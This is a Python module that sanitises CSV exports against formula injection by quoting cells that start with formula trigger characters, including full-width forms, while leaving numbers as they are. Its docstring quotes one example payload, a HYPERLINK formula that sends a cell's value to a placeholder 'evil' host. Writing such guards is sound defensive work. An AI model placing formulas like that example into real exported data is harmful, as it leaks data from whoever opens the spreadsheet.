"""CSV that a spreadsheet never runs (issue 18, 8; OWASP "CSV injection").

Excel, WPS and LibreOffice read a cell starting with = + - @ (or a tab or carriage return before
one) as a formula: `=HYPERLINK("http://evil/?"&A1)` from a HIS department name would run on the
desk's computer. Every text cell we export from data goes through `cell`, which puts a single quote
in front of such a text (the spreadsheet shows the text, quote hidden); numbers (also "-3.20") stay.
Full-width ＝＋－＠ are treated alike: some spreadsheets in a Chinese locale convert them.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

DANGEROUS_FIRST = frozenset("=+-@\t\r\n＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")  # "-3.20" is a number, not a formula


def cell(value: Any) -> Any:
    """The value as it may go into a CSV cell: None -> "", dangerous text quoted, numbers as they are."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text and text[0] in DANGEROUS_FIRST and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """csv.DictWriter whose every cell goes through `cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: cell(v) for k, v in rowdict.items()})


class SafeWriter:
    """csv.writer whose every cell goes through `cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))
